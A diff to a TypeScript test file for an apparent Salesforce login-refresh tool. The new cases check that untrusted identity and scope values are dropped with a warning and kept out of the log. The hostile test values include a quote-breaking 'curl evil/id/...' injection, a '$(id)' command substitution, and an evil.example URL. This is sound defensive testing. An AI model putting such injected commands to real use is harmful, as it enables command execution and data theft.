@@ -115,12 +115,33 @@ describe('the outputs of a refresh', { concurrency }, () => {
     assert.deepEqual(result.outputs, expected);
   });
 
-  it('keep an identity URL of another form as it was sent, without ids', async (t) => {
-    const id = 'https://login.salesforce.com/id/somebody';
-    const { org, result } = await refreshOnce(t, { shape: { fields: { id } } });
-    const other = { 'identity-url': id, 'org-id': undefined, 'user-id': undefined };
-    assert.deepEqual(result.outputs, expectedOutputs(org, other));
-  });
+  const ids = `${longId('00D5e0000Ab1xYz')}/${longId('0055e0000Cd2QrS')}`;
+  const leftOut: readonly (readonly [field: string, value: string, outputs: readonly string[]])[] =
+    [
+      ['id', 'https://login.salesforce.com/id/somebody', ['identity-url', 'org-id', 'user-id']],
+      ['id', `https://evil.example/id/${ids}`, ['identity-url', 'org-id', 'user-id']],
+      ['id', `https://x"; curl evil/id/${ids}`, ['identity-url', 'org-id', 'user-id']],
+      ['scope', 'api "$(id)"', ['scope']],
+      ['scope', 'api '.repeat(225_000), ['scope']],
+    ];
+  for (const [field, value, outputs] of leftOut) {
+    it(`leave out what can not be trusted, with a warning: ${field} ${value.slice(0, 40)}`, async (t) => {
+      const shape = { fields: { [field]: value } };
+      const { org, run } = await refreshScene(t, { shape });
+      const result = await run({ 'job-summary': true });
+      assertRefreshed(result, org);
+      const without = Object.fromEntries(outputs.map((name) => [name, undefined]));
+      assert.deepEqual(result.outputs, expectedOutputs(org, without));
+      const [warning, ...more] = annotationsOf(result);
+      assert.deepEqual(more, []);
+      assert.match(warning ?? '', new RegExp(`^warning: The \`${field}\` of the answer is not `));
+      assert.ok(
+        outputs.every((name) => warning?.includes(`\`${name}\``)),
+        warning,
+      );
+      assert.doesNotMatch(result.log, /curl|evil|\$\(id\)/);
+    });
+  }
 
   it('take no notice of what an Experience Cloud user gets beside it', async (t) => {
     const community = { url: 'https://acme.my.site.com/customers', id: '0DB5e000000Kyle' };
